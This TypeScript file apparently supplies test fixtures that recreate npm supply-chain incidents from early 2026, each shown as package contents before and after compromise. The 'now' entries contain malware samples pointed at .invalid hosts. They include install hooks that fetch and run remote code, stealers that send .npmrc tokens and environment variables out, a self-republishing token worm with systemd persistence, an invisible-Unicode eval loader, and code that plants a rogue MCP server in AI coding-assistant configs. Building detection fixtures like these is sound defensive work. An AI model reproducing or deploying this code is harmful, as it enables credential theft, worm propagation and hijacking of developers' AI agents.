import { base64 } from '../matrix/forms.ts'
import { invisible, protectedJs } from './disguises.ts'
import { entryJs, npm, type Incident } from './incident.ts'

const clean = npm()
const STEALER =
  "const os = require('os'); const fs = require('fs'); const https = require('https');\nconst loot = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };\nconst r = https.request('https://t.m-kosche.invalid/collect', { method: 'POST' }); r.end(JSON.stringify(loot));"

/** npm, January to April 2026. */
export const NPM_2026: readonly Incident[] = [
  {
    id: 'dydx',
    case: '@dydxprotocol/v4-client-js 3.4.1',
    when: '2026-01',
    trigger: 'call',
    before: npm({
      'registry.js': 'exports.createRegistry = (words) => ({ words });\n',
      'index.js': entryJs("exports.createRegistry = require('./registry.js').createRegistry;"),
    }),
    now: npm({
      'registry.js':
        "const os = require('os');\nexports.createRegistry = (words) => {\n  fetch('https://dydx.priceoracle.invalid/py', { method: 'POST', body: JSON.stringify({ words, uuid: os.hostname() + os.userInfo().username }) }).catch(() => {});\n  return { words };\n};\n",
      'index.js': entryJs("exports.createRegistry = require('./registry.js').createRegistry;"),
    }),
  },
  {
    id: 'sandworm-mode',
    case: 'SANDWORM_MODE, 19 packages',
    when: '2026-02',
    trigger: 'import',
    now: npm({
      'index.js': entryJs("require('./lib/boot.js');"),
      'lib/boot.js': `const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst zlib = require('zlib');\nconst server = path.join(os.homedir(), '.dev-utils', 'server.js');\nfs.mkdirSync(path.dirname(server), { recursive: true });\nfs.writeFileSync(server, zlib.inflateSync(Buffer.from('${base64('not really deflated')}', 'base64')));\nfor (const file of ['.claude.json', '.cursor/mcp.json', '.codeium/windsurf/mcp_config.json']) {\n  const full = path.join(os.homedir(), file);\n  const config = fs.existsSync(full) ? JSON.parse(fs.readFileSync(full, 'utf8')) : {};\n  config.mcpServers = { ...config.mcpServers, dev_utils: { command: 'node', args: [server] } };\n  fs.writeFileSync(full, JSON.stringify(config));\n}\n`,
    }),
  },
  {
    id: 'cline',
    case: 'cline 2.3.0',
    when: '2026-02',
    trigger: 'postinstall',
    before: clean,
    now: npm({}, { scripts: { postinstall: 'npm install -g openclaw-7f@latest' } }),
  },
  {
    id: 'glassworm',
    case: 'GlassWorm',
    when: '2026-03',
    trigger: 'import',
    before: clean,
    now: npm({
      'index.js': entryJs(
        `const decode = (v) => [...v].map((c) => c.codePointAt(0)).map((c) => (c >= 0xfe00 && c <= 0xfe0f ? c - 0xfe00 : c >= 0xe0100 && c <= 0xe01ef ? c - 0xe0100 + 16 : null)).filter((c) => c !== null);\neval(Buffer.from(decode(\`${invisible("fetch('https://api.mainnet-beta.invalid',{method:'POST',body:JSON.stringify({method:'getSignaturesForAddress',params:['28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2']})}).then(r=>r.json()).then(r=>fetch(r.result[0].memo)).then(r=>r.text()).then(eval)")}\`)).toString('utf-8'));`,
      ),
    }),
  },
  {
    id: 'canisterworm',
    case: 'CanisterWorm, 66 packages',
    when: '2026-03',
    trigger: 'postinstall',
    before: clean,
    now: npm(
      {
        'index.js':
          "const { execSync, spawn } = require('child_process');\nconst fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfunction tokens() {\n  const found = [];\n  for (const file of [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc'), '/etc/npmrc']) {\n    try { for (const m of fs.readFileSync(file, 'utf8').matchAll(/_authToken\\s*=\\s*(\\S+)/g)) found.push(m[1]); } catch {}\n  }\n  return found;\n}\nconst service = path.join(os.homedir(), '.config/systemd/user/pgmon.service');\nfs.mkdirSync(path.dirname(service), { recursive: true });\nfs.writeFileSync(service, '[Service]\\nExecStart=/usr/bin/python3 ' + os.homedir() + '/.local/share/pgmon/service.py\\nRestart=always\\n');\nexecSync('systemctl --user daemon-reload && systemctl --user enable --now pgmon');\nfor (const token of tokens()) spawn('node', [path.join(__dirname, 'scripts/deploy.js')], { detached: true, stdio: 'ignore', env: { ...process.env, NPM_TOKEN: token } }).unref();\n",
        'scripts/deploy.js':
          "const { execSync } = require('child_process');\nconst user = execSync('npm whoami').toString().trim();\nfor (const name of JSON.parse(execSync('npm access list packages ' + user + ' --json').toString())) {\n  execSync('npm version patch && npm publish --access public --tag latest', { cwd: '/tmp/' + name });\n}\n",
      },
      { scripts: { postinstall: 'node index.js' } },
    ),
  },
  {
    id: 'plain-crypto',
    case: 'axios 1.14.1: its new dependency',
    when: '2026-03',
    trigger: 'postinstall',
    now: npm(
      {
        'setup.js': protectedJs(
          "const os = require('os'); const fs = require('fs'); const cp = require('child_process'); const path = require('path');\nconst to = os.platform() === 'darwin' ? '/Library/Caches/com.apple.act.mond' : path.join(os.tmpdir(), 'ld.py');\ncp.execSync('curl -o ' + to + ' -d packages.npm/product1 -s http://sfrclak.invalid:8000/6202033');\nif (os.platform() === 'darwin') cp.exec('chmod 770 ' + to + ' && /bin/zsh -c \"' + to + ' http://sfrclak.invalid:8000 &\"'); else cp.exec('nohup python3 ' + to + ' http://sfrclak.invalid:8000 > /dev/null 2>&1 &');\nfs.unlinkSync(__filename); fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));",
        ),
        'package.md': '{}\n',
      },
      { scripts: { postinstall: 'node setup.js' } },
    ),
  },
  {
    id: 'velora',
    case: '@velora-dex/sdk 9.4.1',
    when: '2026-04',
    trigger: 'import',
    before: clean,
    now: npm({
      'index.js': entryJs(
        `const { exec } = require('child_process');\nconst cmd = Buffer.from('${base64('(curl -fsSL https://89.invalid/troubleshoot/mac/install.sh | bash) &')}', 'base64').toString();\nexec('bash -c ' + JSON.stringify(cmd));`,
      ),
    }),
  },
  {
    id: 'bitwarden-cli',
    case: '@bitwarden/cli 2026.4.0',
    when: '2026-04',
    trigger: 'preinstall and command',
    before: npm({}, { manifest: { bin: { 'tidal-lantern-42': 'index.js' } } }),
    now: npm(
      {
        'bw_setup.js':
          "const { execSync, spawn } = require('child_process');\nexecSync('curl -fsSL https://bun.invalid/install | bash', { stdio: 'ignore' });\nspawn(process.env.HOME + '/.bun/bin/bun', ['bw1.js'], { detached: true, stdio: 'ignore' }).unref();\n",
        'bw1.js': protectedJs(STEALER),
      },
      {
        scripts: { preinstall: 'node bw_setup.js' },
        manifest: { bin: { 'tidal-lantern-42': 'bw_setup.js', npm: 'bw_setup.js' } },
      },
    ),
  },
  {
    id: 'sap-mbt',
    case: 'SAP mbt, @cap-js',
    when: '2026-04',
    trigger: 'preinstall',
    before: clean,
    now: npm(
      {
        'setup.mjs':
          "import { execSync, spawn } from 'node:child_process';\nimport { writeFileSync, chmodSync } from 'node:fs';\nimport { join } from 'node:path';\nconst url = `https://releases.invalid/bun-v1.3.0/bun-${process.platform}-${process.arch}.zip`;\nconst zip = Buffer.from(await (await fetch(url)).arrayBuffer());\nwriteFileSync('/tmp/bun.zip', zip);\nexecSync('unzip -qo /tmp/bun.zip -d /tmp/bun');\nchmodSync('/tmp/bun/bun', 0o755);\nspawn('/tmp/bun/bun', [join(import.meta.dirname, 'execution.js')], { detached: true, stdio: 'ignore' }).unref();\n",
        'execution.js': protectedJs(STEALER),
      },
      { scripts: { preinstall: 'node setup.mjs' } },
    ),
  },
]
